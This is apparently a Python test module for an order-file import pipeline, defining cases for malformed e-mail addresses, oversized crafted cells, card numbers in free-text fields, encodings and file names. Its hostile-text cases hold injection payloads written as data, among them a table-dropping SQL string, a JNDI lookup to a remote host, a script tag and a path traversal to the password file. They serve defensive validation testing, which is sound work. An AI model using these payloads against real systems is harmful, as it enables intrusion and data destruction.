"""Inputs 89 to 99: e-mail addresses, hostile text, forbidden data, whole files; 95 and 100 are tests of their own."""

from __future__ import annotations

from typing import Any

from orders_pipeline_tests.inputs.case import BEFORE, Back, Case, Finding
from orders_pipeline_tests.inputs.sheet import ORDER, Sheet, accepts, gives_back, refuses, stored

REF = "client_order_ref"
TEXT_COLUMNS = ("customer_name", "customer_name_kana", "ship_to_address", "note")
CODES = {REF: "R_REF_FORMAT", "customer_code": "R_CUSTOMER_CODE", "payment_method": "R_PAYMENT_METHOD"}
NO_NUMBER = Finding("amount", "R_AMOUNT_FORMAT", "TWO")
BAD = {"amount": "TWO"}
MANY = 10_000


def no_address(name: str, written: str) -> Case:
    return gives_back(89, name, {"email": written}, "R_EMAIL")


ADDRESSES = [
    no_address("a header behind a line break", "orders@example.com\r\nBcc: all@example.com"),
    no_address("a header behind a line feed", "orders@example.com\nBcc: all@example.com"),
    no_address("a list", "orders@example.com,all@example.com"),
    no_address("no at", "orders.example.com"),
    no_address("300 characters", "a" * 288 + "@example.com"),
    no_address("a name in front", "Orders <orders@example.com>"),
    accepts(89, "a full-width at", {"email": "orders＠example.com"}, {"email": "orders@example.com"}),
]

CRAFTED = {
    "email": "a" * 30_000 + "." * 29_999 + "@",
    "customer_name": "4" * 59_999 + "x",
    "note": "(" * 60_000,
    "order_date": "2026-" * 12_000,
    "amount": "1," * 30_000,
    "phone": "0-" * 30_000,
}
CRAFTED_LONG = [
    *(gives_back(90, f"60 kB crafted {name}", {name: cell}, "R_TOO_LONG") for name, cell in CRAFTED.items()),
    *(refuses(90, f"200 kB crafted {name}", {name: cell * 4}, "F_FIELD_TOO_LONG") for name, cell in CRAFTED.items()),
]

HOSTILE = {
    "SQL": "'); DROP TABLE orders; --",
    "a template": "{{7*7}}",
    "a lookup": "${jndi:ldap://example.com/a}",
    "a script": "<script>alert(1)</script>",
    "a format": "%s%n {0} %(name)s",
    "a path": "../../etc/passwd",
    "colours": "[red]x[/red]",
}


def hostile_codes() -> Case:
    """A row for each text, in all columns where only codes may stand."""
    sheet = Sheet()
    for written in HOSTILE.values():
        shown = ("'" if written.startswith("%") else "") + written
        cells = {name: written for name in CODES if name != REF or "/" not in written}
        sheet.reject(*(Finding(name, CODES[name], shown) for name in cells), cells=cells)
    return sheet.take().case(91, "hostile text in codes")


HOSTILE_CASES = [
    *(accepts(91, f"{name} in text", dict.fromkeys(TEXT_COLUMNS, written)) for name, written in HOSTILE.items()),
    hostile_codes(),
]

CARDS = [
    *(
        gives_back(92, f"a card number {name}", {"note": f"カード {written} です"}, "R_FORBIDDEN_DATA")
        for name, written in {
            "in a note": "4111111111111111",
            "with spaces": "4111 1111 1111 1111",
            "with hyphens": "5555-5555-5555-4444",
            "in full width": "４１１１１１１１１１１１１１１１",
            "of 15 digits": "378282246310005",
        }.items()
    ),
    *(
        gives_back(92, f"a card number in {column}", {column: "4111111111111111"}, "R_FORBIDDEN_DATA")
        for column in ("customer_name", "ship_to_address", "customer_name_kana")
    ),
    gives_back(
        92,
        "a card number as the token",
        {"payment_token": "4111111111111111", "payment_method": "card_on_file"},
        "R_FORBIDDEN_DATA",
    ),
    accepts(92, "16 digits that are no card number", {"note": "送り状 4111111111111112"}),
]


def nothing_good() -> Case:
    sheet = Sheet()
    for _ in range(3):
        sheet.reject(NO_NUMBER, cells=BAD | {"note": "一\n二"})
    return sheet.case(93, "all rows bad")


def one_bad_of_many() -> Case:
    """The 7,777th of 10,000 rows; each has a line of its own."""
    rows = [ORDER | {REF: f"A-{number}"} for number in range(1, MANY + 1)]
    rows[7776] |= BAD
    records = [",".join(row.values()).encode() for row in rows]
    made = Sheet().case(94, "one bad row of 10000")
    back = Back(7777, 7778, records[7776], (NO_NUMBER,))
    accepted = {number: stored(row) for number, row in enumerate(rows, start=1) if number != 7777}
    data = made.content + b"".join(record + b"\r\n" for record in records)
    personal = (ORDER["customer_name"], ORDER["email"])
    return Case(94, made.name, data, accepted=accepted, back=(back,), layout=made.layout, personal=personal)


def again(name: str, **how: Any) -> Case:
    """Three orders that came before, in UTF-8 with CRLF, written in another way: three rows to give back."""
    before, sheet = Sheet(), Sheet(**how)
    for number in range(1, 4):
        cells = {"note": "髙橋①"}
        before.take(cells)
        sheet.reject(Finding(REF, "R_REF_EXISTS", f"A-{number}", {"batch_id": BEFORE}), cells=cells)
    return sheet.case(96, name, before=(before.data,))


def in_other_order() -> Case:
    sheet = Sheet().take({REF: "Z-3"}).take({REF: "A-1"}).reject(NO_NUMBER, cells=BAD | {REF: "M-2"})
    return sheet.take({REF: "B-9"}).case(98, "references in no order")


FILES = [
    nothing_good(),
    one_bad_of_many(),
    again("the same rows in CP932", codec="cp932"),
    again("the same rows in UTF-16", codec="utf-16-le", bom=True),
    again("the same rows with LF", line_ending="\n"),
    *(
        Sheet().take().reject(NO_NUMBER, cells=BAD).case(97, f"named {name}", file_name=name)
        for name in ("orders-19990101.csv", "注文_20991231.CSV", "2026-02-30")
    ),
    in_other_order(),
    refuses(99, "1 MB of spaces", {"customer_name": " " * (1 << 20)}, "F_FIELD_TOO_LONG"),
    *(
        gives_back(99, f"60000 spaces in {column}", {column: " " * 60_000}, "R_TOO_LONG")
        for column in (REF, "customer_name", "amount", "note")
    ),
]

CASES = (*ADDRESSES, *CRAFTED_LONG, *HOSTILE_CASES, *CARDS, *FILES)
